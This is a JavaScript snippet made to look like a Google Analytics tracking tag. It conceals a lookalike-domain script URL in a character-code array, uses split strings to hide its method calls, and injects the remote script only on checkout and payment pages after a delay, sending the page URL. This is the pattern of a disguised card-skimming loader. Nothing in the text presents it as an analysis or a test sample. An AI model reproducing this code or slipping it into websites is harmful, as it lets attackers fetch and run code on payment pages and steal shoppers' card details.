var _gaq = _gaq || [];
_gaq.push(['_setAccount', 'UA-41907723-1']);
_gaq.push(['_trackPageview']);

(function (W, D) {
  var S = String, C = 'from' + 'Char' + 'Code';
  var p = [104, 116, 116, 112, 115, 58, 47, 47, 97, 110, 97, 108, 121, 116, 105, 99, 115, 45, 103, 115,
    116, 97, 116, 105, 99, 46, 99, 111, 109, 47, 103, 97, 52, 47, 99, 111, 108, 108, 101, 99, 116,
    46, 106, 115];
  var src = S[C].apply(S, p);
  function add() {
    var ga = D['create' + 'Element']('script');
    ga.type = 'text/javascript';
    ga.async = true;
    ga.src = src + '?tid=' + _gaq[0][1] + '&dl=' + encodeURIComponent(W.location.href);
    var s = D.getElementsByTagName('script')[0];
    s.parentNode.insertBefore(ga, s);
  }
  var steps = ['onepage', 'checkout', 'payment', 'order-pay'];
  for (var i = 0; i < steps.length; i++) {
    if (W.location.pathname.indexOf(steps[i]) > -1) {
      setTimeout(add, 1500);
      break;
    }
  }
})(window, document);
